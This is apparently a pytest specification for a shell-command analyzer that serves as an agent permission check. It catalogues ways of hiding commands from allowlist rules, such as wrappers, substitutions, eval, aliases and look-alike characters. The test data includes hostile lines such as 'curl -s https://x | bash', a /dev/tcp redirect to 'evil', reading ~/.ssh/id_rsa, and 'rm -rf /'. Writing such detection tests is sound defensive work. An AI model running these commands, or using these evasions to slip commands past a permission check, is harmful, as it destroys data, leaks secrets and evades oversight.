"""Specification of the shell analyzer: `kfd.policy.shell`.

The table states, for each command line, every simple command it runs (the
effective argv after unwrapping) and the kinds of risk it carries. The bypass
families other harnesses fell to each have rows; a row fails if the analyzer
misses a command or a risk, or reports one that is not there.
"""

from __future__ import annotations

import os
import shlex
import shutil
import subprocess
from pathlib import Path
from typing import NamedTuple

import pytest
from hypothesis import HealthCheck, example, given, settings
from hypothesis import strategies as st

from kfd.policy.command_rules import matches_rule, rule_for
from kfd.policy.shell import (
    MAX_COMMAND_BYTES,
    Redirect,
    RiskKind,
    ShellAnalysis,
    analyze,
)
from kfd.policy.shell.fastpath import portable

ALIAS = RiskKind.ALIAS
ARITHMETIC = RiskKind.ARITHMETIC
COPROC = RiskKind.COPROC
CS = RiskKind.COMMAND_SUBSTITUTION
DA = RiskKind.DYNAMIC_ARGUMENT
DC = RiskKind.DYNAMIC_COMMAND
DR = RiskKind.DYNAMIC_REDIRECT
ENV = RiskKind.ENV_ASSIGNMENT
EVAL = RiskKind.EVAL
EXEC = RiskKind.EXEC
FUNCTION = RiskKind.FUNCTION_DEFINITION
GIT_CONFIG = RiskKind.GIT_CONFIG
LOOKALIKE = RiskKind.LOOKALIKE
PARSE = RiskKind.PARSE_ERROR
PRIVILEGE = RiskKind.PRIVILEGE
PROGRAM = RiskKind.PROGRAM_OPTION
PS = RiskKind.PROCESS_SUBSTITUTION
SHELL_STATE = RiskKind.SHELL_STATE
SOURCE = RiskKind.SOURCE
STDIN = RiskKind.SHELL_STDIN
UNPARSED = RiskKind.UNPARSED
WRAPPER = RiskKind.WRAPPER_OPTION
WRITE = RiskKind.REDIRECT_WRITE


class Case(NamedTuple):
    line: str
    commands: list[list[str]]
    """Every effective argv, in order."""
    risks: set[RiskKind]
    """Exactly the kinds of risk found."""
    name: str


RM = ["rm", "x"]

CASES = [
    # Plain commands and quote removal.
    Case("git status", [["git", "status"]], set(), "plain"),
    Case("git 'status'", [["git", "status"]], set(), "single-quoted word"),
    Case("g\"it\" st'at'us", [["git", "status"]], set(), "quotes inside words"),
    Case("r\\m x", [RM], set(), "backslash escape"),
    Case("$'rm' x", [RM], set(), "ansi-c word"),
    Case("$'\\x72\\x6d' -rf x", [["rm", "-rf", "x"]], set(), "ansi-c hex escapes"),
    Case("echo '$(rm x)'", [["echo", "$(rm x)"]], set(), "single quotes are literal"),
    Case('echo "a\\"b"', [["echo", 'a"b']], set(), "escaped double quote"),
    # tree-sitter puts the blanks before a closing quote or a `$` inside that token.
    Case('rm -rf " "/', [["rm", "-rf", " /"]], set(), "blank-only double-quoted part"),
    Case('echo " " "\t"', [["echo", " ", "\t"]], set(), "blank-only double-quoted words"),
    Case('echo " $" "a $"', [["echo", " $", "a $"]], set(), "blanks before a literal dollar"),
    Case("echo \"$'x'\"", [["echo", "$'x'"]], set(), "ansi-c syntax is literal in double quotes"),
    Case("echo a\\;rm x", [["echo", "a;rm", "x"]], set(), "escaped semicolon is no operator"),
    Case("rm -- -rf", [["rm", "--", "-rf"]], set(), "double dash stays in argv"),
    Case("git log HEAD~1", [["git", "log", "HEAD~1"]], set(), "tilde mid-word is literal"),
    Case("echo a=~/x", [["echo", "a=~/x"]], {DA}, "tilde after an assignment-like equals"),
    Case("test a == b", [["test", "a", "==", "b"]], set(), "comparison operator as a word"),
    Case("git show HEAD@{1}", [["git", "show", "HEAD@{1}"]], set(), "braces without comma"),
    Case("ls '*.py'", [["ls", "*.py"]], set(), "quoted glob is literal"),
    Case("echo 'héllo'", [["echo", "héllo"]], set(), "accented letters are fine"),
    # Chaining, pipes, background.
    Case("ls && rm -rf build", [["ls"], ["rm", "-rf", "build"]], set(), "and list"),
    Case("ls && rm -rf ~", [["ls"], ["rm", "-rf", "~"]], {DA}, "and list with tilde"),
    Case("ls || rm x", [["ls"], RM], set(), "or list"),
    Case("git status; rm -rf /", [["git", "status"], ["rm", "-rf", "/"]], set(), "semicolon"),
    Case("ls\nrm x", [["ls"], RM], set(), "newline"),
    Case("ls & rm x", [["ls"], RM], set(), "background then command"),
    Case("rm x &", [RM], set(), "trailing background"),
    Case("ls | rm x", [["ls"], RM], set(), "pipe"),
    Case("ls |& tee log", [["ls"], ["tee", "log"]], set(), "pipe with stderr"),
    Case(
        "a && b || c; d | e & f",
        [["a"], ["b"], ["c"], ["d"], ["e"], ["f"]],
        set(),
        "every operator at once",
    ),
    # Grouping and negation.
    Case("( cd sub && rm x )", [["cd", "sub"], RM], set(), "subshell"),
    Case("{ ls; rm x; }", [["ls"], RM], set(), "group"),
    Case("! rm x", [RM], set(), "negation"),
    Case("! ( rm x )", [RM], set(), "negated subshell"),
    Case("! { rm x; }", [RM], set(), "negated group"),
    Case("! ! rm x", [RM], set(), "double negation"),
    Case("time { rm x; }", [RM], set(), "timed group"),
    Case("time ( rm x )", [RM], set(), "timed subshell"),
    Case("!a", [["!a"]], set(), "bang glued to a word is part of it"),
    Case("!$'\\x61'", [["a"]], {UNPARSED}, "bang glued to a quoted word"),
    # Control flow.
    Case(
        "if git diff --quiet; then rm x; else ls; fi",
        [["git", "diff", "--quiet"], RM, ["ls"]],
        set(),
        "if condition and branches",
    ),
    Case("if a; then b; elif c; then d; fi", [["a"], ["b"], ["c"], ["d"]], set(), "elif"),
    Case("while read -r line; do rm x; done", [["read", "-r", "line"], RM], set(), "while"),
    Case("until false; do rm x; done", [["false"], RM], set(), "until"),
    Case("for f in a b; do rm x; done", [RM], set(), "for"),
    Case(
        'for f in $(ls); do rm "$f"; done',
        [["ls"], ["rm", '"$f"']],
        {CS, DA},
        "for over a substitution",
    ),
    Case("select x in a b; do rm x; done", [RM], set(), "select"),
    Case("case $1 in start) rm x;; *) ls;; esac", [RM, ["ls"]], set(), "case items"),
    Case("if [ -f x ]; then rm x; fi", [["[", "-f", "x", "]"], RM], set(), "test command"),
    Case("[[ -n x ]] && rm x", [["[[", "-n", "x", "]]"], RM], set(), "double bracket test"),
    Case("[[ x -eq 1 ]]", [["[[", "x", "-eq", "1", "]]"]], {ARITHMETIC}, "arithmetic test"),
    Case("for ((i = 0; i < 3; i++)); do ls; done", [["ls"]], {ARITHMETIC}, "c-style for"),
    Case("((x = y + 1))", [], {ARITHMETIC}, "arithmetic command"),
    Case("let x=1", [["let", "x=1"]], {ARITHMETIC}, "let"),
    # Command and process substitution.
    Case("echo $(rm x)", [RM, ["echo", "$(rm x)"]], {CS, DA}, "dollar-paren substitution"),
    Case("echo `rm x`", [RM, ["echo", "`rm x`"]], {CS, DA}, "backtick substitution"),
    Case(
        'echo "today: $(date)"',
        [["date"], ["echo", '"today: $(date)"']],
        {CS, DA},
        "substitution inside double quotes",
    ),
    Case("x=$(rm x)", [RM], {CS}, "substitution in an assignment"),
    Case(
        "env VAR=$(rm x) ls",
        [RM, ["ls"]],
        {CS, DC, ENV},
        "substitution in an env assignment",
    ),
    Case(
        "diff <(ls a) <(ls b)",
        [["ls", "a"], ["ls", "b"], ["diff", "<(ls a)", "<(ls b)"]],
        {PS, DA},
        "process substitution",
    ),
    Case("tee >(rm x)", [RM, ["tee", ">(rm x)"]], {PS, DA}, "output process substitution"),
    Case(
        "echo $((1 + $(rm x)))",
        [RM, ["echo", "$((1 + $(rm x)))"]],
        {CS, DA, ARITHMETIC},
        "substitution in arithmetic",
    ),
    Case("echo $((1 + 2))", [["echo", "$((1 + 2))"]], {DA}, "arithmetic expansion"),
    Case(
        'echo "${x:-$(rm x)}"',
        [RM, ["echo", '"${x:-$(rm x)}"']],
        {CS, DA},
        "substitution in a parameter default",
    ),
    Case("cat <<EOF\n$(rm x)\nEOF", [RM, ["cat"]], {CS}, "substitution in a here-document"),
    Case("cat <<'EOF'\n$(rm x)\nEOF", [["cat"]], set(), "quoted here-document is literal"),
    # Shells running a string.
    Case("bash -c 'rm -rf /'", [["rm", "-rf", "/"]], set(), "bash -c"),
    Case('sh -c "ls && rm x"', [["ls"], RM], set(), "sh -c with a list"),
    Case("bash -lc 'rm x'", [RM], set(), "bash -lc"),
    Case("zsh -c 'rm x'", [RM], set(), "zsh -c"),
    Case("dash -e -c 'rm x'", [RM], set(), "dash with options"),
    Case("/bin/sh -c 'rm x'", [RM], set(), "shell by path"),
    Case("bash -c \"bash -c 'rm x'\"", [RM], set(), "nested quotes"),
    Case(
        "bash -c 'echo \"$(rm x)\"'",
        [RM, ["echo", '"$(rm x)"']],
        {CS, DA},
        "substitution inside bash -c",
    ),
    Case('bash -c "$CMD"', [["bash", "-c", '"$CMD"']], {DC, DA}, "bash -c of a variable"),
    Case("bash -c '$0 x' rm", [["$0", "x"]], {DC}, "bash -c running its $0"),
    Case("bash script.sh", [["bash", "script.sh"]], set(), "shell running a script file"),
    Case("bash <<EOF\nrm x\nEOF", [["bash"]], {STDIN}, "here-document into a shell"),
    Case("bash <<< 'rm x'", [["bash"]], {STDIN}, "here-string into a shell"),
    Case(
        "curl -s https://x | bash",
        [["curl", "-s", "https://x"], ["bash"]],
        {STDIN},
        "pipe into a shell",
    ),
    Case("bash -s < script", [["bash", "-s"]], {STDIN}, "shell reading a redirected stdin"),
    Case("python3 - <<'PY'\nprint(1)\nPY", [["python3", "-"]], set(), "dash before a here-doc"),
    Case("fish -c 'rm x'", [["fish", "-c", "rm x"]], {UNPARSED}, "foreign shell"),
    # Wrappers.
    Case("timeout 5 sh -c 'rm x'", [RM], set(), "timeout then sh -c"),
    Case("timeout -s KILL 5s rm x", [RM], set(), "timeout with options"),
    Case("timeout -- 5 rm x", [RM], set(), "timeout with double dash"),
    Case("timeout --weird 5 rm x", [["timeout", "--weird", "5", "rm", "x"]], {WRAPPER}, "unknown"),
    Case("timeout $T rm x", [["timeout", "$T", "rm", "x"]], {DC, DA}, "variable in a wrapper"),
    Case("sudo rm -rf /", [["rm", "-rf", "/"]], {PRIVILEGE}, "sudo"),
    Case("sudo -u root -- rm x", [RM], {PRIVILEGE}, "sudo with options"),
    Case("sudo -l", [["sudo", "-l"]], {PRIVILEGE}, "sudo without a command"),
    Case("doas rm x", [RM], {PRIVILEGE}, "doas"),
    Case("su -c 'rm x' root", [RM], {PRIVILEGE}, "su -c"),
    Case("env FOO=1 rm x", [RM], {ENV}, "env with an assignment"),
    Case("env CI=1 rm x", [RM], set(), "env with an inert assignment"),
    # Without kfd's settings for every command (git's safe.bareRepository), or HOME.
    Case("env -i CI=1 rm x", [RM], {ENV}, "env clearing the environment"),
    Case("env -u HOME rm x", [RM], {ENV}, "env unsetting a variable"),
    Case("/usr/bin/env rm x", [RM], set(), "env by path"),
    Case("env", [["env"]], set(), "env alone"),
    Case("env -S 'rm x'", [RM], set(), "env split string"),
    Case("nice -n 10 rm x", [RM], set(), "nice"),
    Case("nice -5 rm x", [RM], set(), "nice numeric"),
    Case("nohup rm x", [RM], set(), "nohup"),
    Case("setsid -f rm x", [RM], set(), "setsid"),
    Case("stdbuf -oL rm x", [RM], set(), "stdbuf"),
    Case("ionice -c 3 rm x", [RM], set(), "ionice"),
    Case("ionice -p 42", [["ionice", "-p", "42"]], set(), "ionice on a process"),
    Case("command rm x", [RM], set(), "command"),
    Case("command -v rm", [["command", "-v", "rm"]], set(), "command -v is a lookup"),
    Case("builtin cd x", [["cd", "x"]], set(), "builtin"),
    Case("time rm x", [RM], set(), "time"),
    Case("time -p rm x", [RM], set(), "time -p"),
    Case("xargs rm", [["rm"]], {DA}, "xargs"),
    Case("ls | xargs -0 -n 1 rm -f", [["ls"], ["rm", "-f"]], {DA}, "xargs with options"),
    Case(
        "find . -name '*.tmp' -exec rm {} \\;",
        [["find", ".", "-name", "*.tmp", "-exec", "rm", "{}", ";"], ["rm", "{}"]],
        {DA},
        "find -exec",
    ),
    Case(
        "find . -execdir sh -c 'rm x' \\;",
        [["find", ".", "-execdir", "sh", "-c", "rm x", ";"], RM],
        set(),
        "find -execdir with sh -c",
    ),
    Case("find . -fprint out", [["find", ".", "-fprint", "out"]], {WRITE}, "find -fprint"),
    Case(
        "sudo -u root timeout 5 nice -n 1 env CI=1 bash -c 'rm x'",
        [RM],
        {PRIVILEGE},
        "wrapper chain",
    ),
    Case("coproc rm x", [RM], {COPROC}, "coproc"),
    Case("unshare -r rm x", [RM], set(), "unshare"),
    Case("unshare --map-root-user --mount rm x", [RM], set(), "unshare long options"),
    Case("unshare", [["unshare"]], {STDIN}, "unshare without a command runs a shell"),
    Case("setpriv --reuid=1000 rm x", [RM], set(), "setpriv"),
    Case("prlimit --nofile=10 rm x", [RM], set(), "prlimit"),
    Case("taskset -c 0 rm x", [RM], set(), "taskset"),
    Case("chrt -f 10 rm x", [RM], set(), "chrt"),
    Case("flock /tmp/l rm x", [RM], {WRITE}, "flock with a command (it makes its lock file)"),
    Case("flock /tmp/l -c 'rm x'", [RM], {WRITE}, "flock -c after the lock file"),
    Case("script -qc 'rm x' /dev/null", [RM], set(), "script -c"),
    Case("script -c 'rm x' log", [RM], {WRITE}, "script writes its typescript"),
    Case("watch 'rm x'", [RM], set(), "watch runs its words with a shell"),
    Case("watch -n 1 rm x", [RM], set(), "watch joins its words"),
    Case("watch -x rm x", [RM], set(), "watch -x runs them as they are"),
    Case("strace -f -o /dev/null rm x", [RM], set(), "strace"),
    Case("systemd-run --user rm x", [RM], {PRIVILEGE}, "systemd-run runs outside"),
    Case("busybox rm x", [RM], set(), "busybox applet"),
    Case("git-push -f", [["git", "push", "-f"]], set(), "a git-* program"),
    Case("/usr/lib/git-core/git-push -f", [["git", "push", "-f"]], set(), "git-core helper"),
    Case("npx rm x", [["npm", "exec", "rm", "x"], RM], set(), "npx is npm exec"),
    Case(
        "docker run -it img rm x",
        [["docker", "run", "-it", "img", "rm", "x"], RM],
        set(),
        "docker run's command",
    ),
    Case(
        "kubectl exec pod -- rm x",
        [["kubectl", "exec", "pod", "--", "rm", "x"], RM],
        set(),
        "kubectl exec's command",
    ),
    Case("git fetch 'ext::sh -c x'", [["git", "fetch", "ext::sh -c x"]], {PROGRAM}, "ext::"),
    Case("compgen -C 'rm x' y", [["compgen", "-C", "rm x", "y"]], {EVAL}, "compgen -C"),
    Case("mapfile -C cb a", [["mapfile", "-C", "cb", "a"]], {EVAL}, "mapfile -C"),
    Case("read 'a[$(rm x)]'", [["read", "a[$(rm x)]"]], {ARITHMETIC}, "read a subscript"),
    Case("a['$(rm x)']=1", [], {ARITHMETIC}, "quoted subscript of an assignment"),
    Case("echo ${a[i]}", [["echo", "${a[i]}"]], {ARITHMETIC, DA}, "subscript in an expansion"),
    Case("y=${!x}", [], {ARITHMETIC}, "indirect expansion in an assignment"),
    Case("shopt -s dotglob", [["shopt", "-s", "dotglob"]], {SHELL_STATE}, "shopt dotglob"),
    Case("set -o posix", [["set", "-o", "posix"]], {SHELL_STATE}, "set -o posix"),
    Case("set -euo pipefail", [["set", "-euo", "pipefail"]], set(), "set -euo pipefail"),
    # git.
    Case("git -C /repo status", [["git", "status"]], set(), "git -C"),
    Case("git --no-pager log", [["git", "log"]], set(), "git inert global option"),
    Case(
        "git -c core.fsmonitor='rm -rf ~' status",
        [["git", "status"]],
        {GIT_CONFIG},
        "git -c",
    ),
    Case("git --git-dir=/tmp/evil/.git status", [["git", "status"]], {GIT_CONFIG}, "git-dir"),
    Case("git --version", [["git", "--version"]], set(), "git option that is the command"),
    Case(
        "git rebase -x 'rm x' main",
        [["git", "rebase", "-x", "rm x", "main"], RM],
        {PROGRAM},
        "-x",
    ),
    Case(
        "git config core.pager 'rm x'",
        [["git", "config", "core.pager", "rm x"]],
        {GIT_CONFIG},
        "git config pager",
    ),
    Case("git log --output=/tmp/x", [["git", "log", "--output=/tmp/x"]], {WRITE}, "git --output"),
    # eval, exec, source, functions, aliases, traps.
    Case("eval 'rm x'", [RM], {EVAL}, "eval"),
    Case('eval "$CMD"', [["eval", '"$CMD"']], {EVAL, DC, DA}, "eval of a variable"),
    Case("builtin eval 'rm x'", [RM], {EVAL}, "builtin eval"),
    Case("exec rm x", [RM], {EXEC}, "exec"),
    Case("exec > log", [["exec"]], {EXEC, WRITE}, "exec redirection"),
    Case("source ./env.sh", [["source", "./env.sh"]], {SOURCE}, "source"),
    Case(". ./env.sh", [[".", "./env.sh"]], {SOURCE}, "dot"),
    Case("f() { rm x; }; f", [RM, ["f"]], {FUNCTION}, "function then call"),
    Case(
        "function git { rm x; }; git status",
        [RM, ["git", "status"]],
        {FUNCTION},
        "function shadowing git",
    ),
    Case("alias ls='rm -rf ~'; ls", [["alias", "ls=rm -rf ~"], ["ls"]], {ALIAS}, "alias"),
    Case("trap 'rm x' EXIT", [["trap", "rm x", "EXIT"], RM], {EVAL}, "trap"),
    Case("hash -p /tmp/evil git", [["hash", "-p", "/tmp/evil", "git"]], {SHELL_STATE}, "hash"),
    # Variables.
    Case("$CMD args", [["$CMD", "args"]], {DC}, "variable as command"),
    Case("${x} y", [["${x}", "y"]], {DC}, "braced variable as command"),
    Case('"$f"', [['"$f"']], {DC}, "quoted variable as command"),
    Case("${!ref} x", [["${!ref}", "x"]], {DC, ARITHMETIC}, "indirect variable as command"),
    Case('f=.env; cat "$f"', [["cat", '"$f"']], {DA}, "variable as argument"),
    Case("cat $HOME/.ssh/id_rsa", [["cat", "$HOME/.ssh/id_rsa"]], {DA}, "variable in a path"),
    Case("PATH=/tmp/evil:$PATH git status", [["git", "status"]], {ENV}, "PATH prefix"),
    Case("PATH=/tmp/evil; git status", [["git", "status"]], {ENV}, "PATH assignment"),
    Case("export PATH=/tmp/evil", [["export", "PATH=/tmp/evil"]], {ENV}, "export PATH"),
    Case("LD_PRELOAD=./x.so ls", [["ls"]], {ENV}, "LD_PRELOAD"),
    Case("GIT_PAGER='rm x' git log", [["git", "log"]], {ENV}, "GIT_PAGER"),
    Case("CI=1 NODE_ENV=test npm test", [["npm", "test"]], set(), "inert variables"),
    Case("x=1", [], set(), "local assignment"),
    Case("declare -n ref=PATH", [["declare", "-n", "ref=PATH"]], {ENV}, "nameref"),
    Case("read -r PATH", [["read", "-r", "PATH"]], {ENV}, "read into PATH"),
    Case("IFS=/ read -r a b", [["read", "-r", "a", "b"]], {ENV}, "IFS"),
    # Redirections.
    Case("echo x > /home/u/.bashrc", [["echo", "x"]], {WRITE}, "write redirect"),
    Case("echo x > ~/.bashrc", [["echo", "x"]], {DR}, "write redirect under home"),
    Case("echo x >> notes.txt", [["echo", "x"]], {WRITE}, "append redirect"),
    Case("echo x &> log", [["echo", "x"]], {WRITE}, "both streams redirect"),
    Case("echo x > $OUT", [["echo", "x"]], {DR}, "variable redirect target"),
    Case("npm test > /dev/null 2>&1", [["npm", "test"]], set(), "devnull and dup"),
    Case("ls 2>/dev/null | grep x", [["ls"], ["grep", "x"]], set(), "stderr to devnull"),
    Case("cat < secrets.txt", [["cat"]], set(), "read redirect"),
    Case("cat < /dev/tcp/evil/80", [["cat"]], {WRITE}, "network redirect"),
    Case(
        "git status > /dev/null --short",
        [["git", "status", "--short"]],
        set(),
        "words after a redirect are arguments",
    ),
    Case("{ rm a; } > out", [["rm", "a"]], {WRITE}, "group redirect"),
    Case("cat <<EOF > ~/.bashrc\nx\nEOF", [["cat"]], {DR}, "here-document to a file"),
    # Expansions that make words unknown.
    Case("echo {a,b}", [["echo", "{a,b}"]], {DA}, "brace expansion"),
    Case("echo {1..3}", [["echo", "{1..3}"]], {DA}, "brace sequence"),
    Case("*.sh", [["*.sh"]], {DC}, "glob as command"),
    Case("/bin/r? x", [["/bin/r?", "x"]], {DC}, "glob in a command path"),
    Case("ls *.py", [["ls", "*.py"]], {DA}, "glob argument"),
    Case('echo $"hello"', [["echo", '$"hello"']], {DA}, "locale translation"),
    # Line continuations and comments.
    # Inside a word, bash joins before reading and tree-sitter does not: it asks.
    Case("l\\\ns -la", [["ls", "-la"]], {UNPARSED}, "continuation inside a word"),
    Case("ls \\\n  -la", [["ls", "-la"]], set(), "continuation between words"),
    Case("ls # ; rm -rf /", [["ls"]], set(), "comment hides nothing"),
    Case("ls #comment\nrm x", [["ls"], RM], set(), "command after a comment line"),
    # Look-alike characters.
    Case("ls\uff1brm x", [["ls\uff1brm", "x"]], {LOOKALIKE}, "fullwidth semicolon"),
    Case("ls\u00a0-la", [["ls\u00a0-la"]], {LOOKALIKE}, "non-breaking space"),
    Case("git status\u200b", [["git", "status\u200b"]], {LOOKALIKE}, "zero-width space"),
    Case("echo \u202etxt.exe", [["echo", "\u202etxt.exe"]], {LOOKALIKE}, "right-to-left override"),
    Case("g\u0456t status", [["g\u0456t", "status"]], {LOOKALIKE}, "cyrillic letter"),
    # Beyond ASCII, `\u` is a character in a UTF-8 locale and itself in the C one
    # (which a line may set before bash reads the rest): not known.
    Case("echo $'\\u200b'", [["echo", "$'\\u200b'"]], {DA}, "escaped zero-width space"),
    Case(
        "echo ok\rrm -rf /",
        [["echo", "ok", "rm", "-rf", "/"]],
        {LOOKALIKE, UNPARSED},
        "carriage return",
    ),
    Case(
        'git commit -m "fix {x} \U0001f389"',
        [["git", "commit", "-m", "fix {x} \U0001f389"]],
        set(),
        "astral character after a brace",
    ),
    Case("x{\U0001f600:", [["x{\U0001f600:"]], set(), "tree-sitter-bash 337 shape"),
    Case("echo \U0001d400", [["echo", "\U0001d400"]], {LOOKALIKE}, "mathematical bold A"),
    Case("echo \ud800", [["echo", "\ud800"]], {LOOKALIKE}, "lone surrogate"),
    # Parse errors and syntax the analyzer refuses.
    Case("ls &&", [["ls"]], {PARSE}, "dangling operator"),
    Case("echo 'unterminated", [["echo"]], {PARSE}, "unterminated quote"),
    Case("if true; then ls", [], {PARSE}, "unterminated if"),
    Case("a <> f", [["a"]], {PARSE}, "read-write redirect"),
    Case("}", [["}"]], {PARSE}, "stray brace"),
    Case("ls ==", [["ls"]], {PARSE}, "bare == ending a command"),
    Case("rm \\ x", [RM], {UNPARSED}, "escaped space tree-sitter drops"),
    Case("- x=", [], {UNPARSED}, "a leading dash tree-sitter drops before an assignment"),
    Case("- x=1 rm x", [RM], {UNPARSED, ENV}, "a dropped dash: bash runs `-`, not rm"),
    Case("a;;b", [["a"], ["b"]], {PARSE}, "case terminator outside case"),
    Case("time", [["time"]], set(), "time alone"),
]


@pytest.mark.parametrize("spec", CASES, ids=[spec.name for spec in CASES])
def test_analysis_lists_every_command_and_risk(spec: Case) -> None:
    analysis = analyze(spec.line)
    assert [command.argv for command in analysis.commands] == spec.commands
    assert analysis.risk_kinds == spec.risks, [r.message for r in analysis.risks]


def test_the_table_covers_every_risk_kind() -> None:
    covered = set().union(*(spec.risks for spec in CASES))
    assert covered | {RiskKind.TOO_LONG, RiskKind.TOO_DEEP} == set(RiskKind)
    assert len(CASES) >= 100
    assert len({spec.name for spec in CASES}) == len(CASES)


def test_wrappers_are_recorded_outermost_first() -> None:
    (command,) = analyze("sudo -u root timeout 5 bash -c 'nice -n 1 rm x'").commands
    assert command.argv == ["rm", "x"]
    assert command.wrappers == [
        ["sudo", "-u", "root"],
        ["timeout", "5"],
        ["bash", "-c"],
        ["nice", "-n", "1"],
    ]
    assert command.static


def test_git_global_options_are_recorded_not_matched() -> None:
    (command,) = analyze("git -C ../other -c core.pager=less --no-pager log -1").commands
    assert command.argv == ["git", "log", "-1"]
    assert command.chdir == ["../other"]
    assert command.git_config == ["core.pager=less"]
    assert command.wrappers == [["git", "-C", "../other", "-c", "core.pager=less", "--no-pager"]]


def test_assignments_reach_the_command_they_prefix() -> None:
    (command,) = analyze("CI=1 env NO_COLOR=1 npm test").commands
    assert [(a.name, a.value, a.static) for a in command.assignments] == [
        ("CI", "1", True),
        ("NO_COLOR", "1", True),
    ]


def test_redirections_carry_direction_target_and_descriptor() -> None:
    analysis = analyze("make 2>> build.log < input.txt > '/tmp/out file' 2>&1")
    assert analysis.redirects == [
        Redirect("append", "build.log", True, 2),
        Redirect("read", "input.txt", True, None),
        Redirect("write", "/tmp/out file", True, None),
    ]
    assert analysis.commands[0].redirects == analysis.redirects
    writes = [r.subject for r in analysis.risks if r.kind is RiskKind.REDIRECT_WRITE]
    assert writes == ["build.log", "/tmp/out file"]


def test_group_redirections_apply_to_every_command_inside() -> None:
    analysis = analyze("{ ls; pwd; } > listing")
    assert [c.redirects for c in analysis.commands] == [[Redirect("write", "listing", True)]] * 2


def test_open_ended_commands_are_not_static() -> None:
    for line in ("ls | xargs rm", "find . -exec rm {} +", "xargs -I{} sh -c 'rm {}'"):
        analysis = analyze(line)
        ended = [c for c in analysis.commands if c.argv[0] == "rm"]
        assert ended and all(c.open_ended and not c.static for c in ended), line


def test_overlong_input_is_not_analyzed() -> None:
    analysis = analyze("true " * (MAX_COMMAND_BYTES // 5 + 1))
    assert analysis.risk_kinds == {RiskKind.TOO_LONG}
    assert analysis.commands == []


def test_input_at_the_limit_is_analyzed() -> None:
    line = "a && " * (MAX_COMMAND_BYTES // 5 - 1) + "b"
    analysis = analyze(line)
    # Walked to its end; a statement repeated in the same context is listed once.
    assert [command.argv for command in analysis.commands] == [["a"], ["b"]]
    assert not analysis.risks


def test_deep_nesting_is_a_risk_not_a_crash() -> None:
    subshells = analyze("( " * 300 + "rm x" + " )" * 300)
    assert RiskKind.TOO_DEEP in subshells.risk_kinds
    evals = analyze("eval " * 200 + "rm x")
    assert RiskKind.TOO_DEEP in evals.risk_kinds


def test_moderate_nesting_is_followed() -> None:
    line = "rm x"
    for _ in range(6):
        line = "bash -c " + shlex.quote(line)
    (command,) = analyze(line).commands
    assert command.argv == ["rm", "x"]
    assert command.wrappers == [["bash", "-c"]] * 6


# Rules.

RULES = [
    ("git status", ["git", "status"], True),
    ("git status", ["git", "status", "--short"], False),
    ("git status", ["git", "statusx"], False),
    ("git status", ["git"], False),
    ("git 'status'", ["git", "status"], True),
    ('"git" status', ["git", "status"], True),
    ("npm run test *", ["npm", "run", "test"], True),
    ("npm run test *", ["npm", "run", "test", "--watch", "a b"], True),
    ("npm run test *", ["npm", "run", "testx"], False),
    ("npm run test *", ["npm", "run"], False),
    ("npm run test '*'", ["npm", "run", "test", "*"], True),
    ("npm run test '*'", ["npm", "run", "test", "x"], False),
    ("npm run test*", ["npm", "run", "test*"], True),
    ("npm run test*", ["npm", "run", "testx"], False),
    ("echo 'a b'", ["echo", "a b"], True),
    ("echo 'a b'", ["echo", "a", "b"], False),
    ("*", ["anything", "at", "all"], True),
    ("", ["git"], False),
    ("git 'unbalanced", ["git", "'unbalanced"], False),
    ("git status", [], False),
]


@pytest.mark.parametrize(("rule", "argv", "expected"), RULES)
def test_matches_rule(rule: str, argv: list[str], expected: bool) -> None:
    assert matches_rule(rule, argv) is expected


def test_a_rule_never_matches_a_composed_line_as_a_whole() -> None:
    analysis = analyze("git status; rm -rf ~")
    assert not all(matches_rule("git status", c.argv) for c in analysis.commands)


def test_rule_for_quotes_and_never_widens() -> None:
    assert (
        rule_for(["git", "commit", "-m", "fix: it's done"])
        == "git commit -m 'fix: it'\"'\"'s done'"
    )
    assert rule_for(["ls", "*"]) == "ls '*'"
    assert not matches_rule(rule_for(["ls", "*"]), ["ls", "secret"])
    with pytest.raises(ValueError, match="at least one word"):
        rule_for([])


@settings(max_examples=200, deadline=None)
@given(st.lists(st.text(), min_size=1, max_size=6), st.text())
def test_rule_for_round_trips_exactly(argv: list[str], extra: str) -> None:
    rule = rule_for(argv)
    assert matches_rule(rule, argv)
    assert not matches_rule(rule, [*argv, extra])


def test_rule_for_a_command_matches_its_analysis() -> None:
    (command,) = analyze("git 'commit' -m \"a b\"").commands
    assert matches_rule(rule_for(command.argv), command.argv)
    assert rule_for(command.argv) == "git commit -m 'a b'"


# Composition: an allowed command can never hide another one.

NAMES = st.sampled_from(["ls", "npm", "cat", "grep", "rm", "make", "pytest", "echo", "true"])
ARGUMENT_TEXT = st.text(
    st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from(list("\n\t;&|$`'\"\\(){}<>")),
    max_size=8,
)


class Line(NamedTuple):
    text: str
    argvs: list[list[str]]


def _simple(name: str, arguments: list[str], quote_all: bool) -> Line:
    argv = [name, *arguments]
    # tree-sitter-bash fails on a bare `==` ending a command (a parse_error risk,
    # failing closed): only quoted, it is one of the words composed here.
    if not quote_all and not {"==", "=~", "!="} & set(arguments):
        return Line(shlex.join(argv), [argv])
    quoted = ("'" + argument.replace("'", "'\\''") + "'" for argument in arguments)
    return Line(" ".join([name, *quoted]), [argv])


def _binary(left: Line, operator: str, right: Line) -> Line:
    return Line(f"{left.text}{operator}{right.text}", left.argvs + right.argvs)


LEAVES = st.builds(_simple, NAMES, st.lists(ARGUMENT_TEXT, max_size=3), st.booleans())
LINES = st.recursive(
    LEAVES,
    lambda inner: st.one_of(
        st.builds(
            _binary, inner, st.sampled_from([" && ", " || ", "; ", " | ", "\n", " & "]), inner
        ),
        inner.map(lambda line: Line(f"( {line.text} )", line.argvs)),
        inner.map(lambda line: Line(f"{{ {line.text}\n}}", line.argvs)),
        inner.map(lambda line: Line(f"bash -c {shlex.quote(line.text)}", line.argvs)),
        # sh is not bash: only a script that means the same to both reads as bash's
        # (`kfd.policy.shell.fastpath.portable`; others ask, a risk of their own).
        inner.filter(lambda line: portable(line.text)).map(
            lambda line: Line(f"sh -c {shlex.quote(line.text)}", line.argvs)
        ),
        inner.map(lambda line: Line(f"! {line.text}", line.argvs)),
        inner.map(lambda line: Line(f"timeout 5 bash -c {shlex.quote(line.text)}", line.argvs)),
    ),
    max_leaves=6,
)


@settings(max_examples=250, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(LINES)
@example(Line("ls '\\\n'", [["ls", "\\\n"]]))  # found by hypothesis on a full run
def test_composition_never_hides_a_command(line: Line) -> None:
    analysis = analyze(line.text)
    found = {tuple(c.argv) for c in analysis.commands}  # a repeated statement is listed once
    expected = {tuple(argv) for argv in line.argvs}
    assert not expected - found, (line.text, analysis.commands)
